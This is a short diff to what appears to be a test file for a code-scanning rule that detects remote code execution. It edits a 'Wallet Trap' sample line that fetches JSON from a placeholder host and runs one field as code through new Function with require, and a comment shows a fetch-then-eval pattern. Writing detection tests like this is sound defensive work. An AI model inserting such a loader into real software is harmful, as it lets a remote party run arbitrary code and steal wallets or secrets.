@@ -23,7 +23,7 @@ async function bootstrap(src, k, v) {
 // Wallet Trap vite.cookie.js: fetch -> r.json() -> new Function('require', d.cookie)(require)
 function walletTrap() {
   // ruleid: remote-response-to-code-execution
-  fetch("https://jsonkeeper.invalid/b/5SA4R").then((r) => r.json()).then((d) => new Function("require", d.cookie)(require));
+  fetch("https://jsonkeeper.invalid/b/Q0Q0Z").then((r) => r.json()).then((d) => new Function("require", d.cookie)(require));
 }
 
 // fetch(url).then(r => r.text()).then(eval)
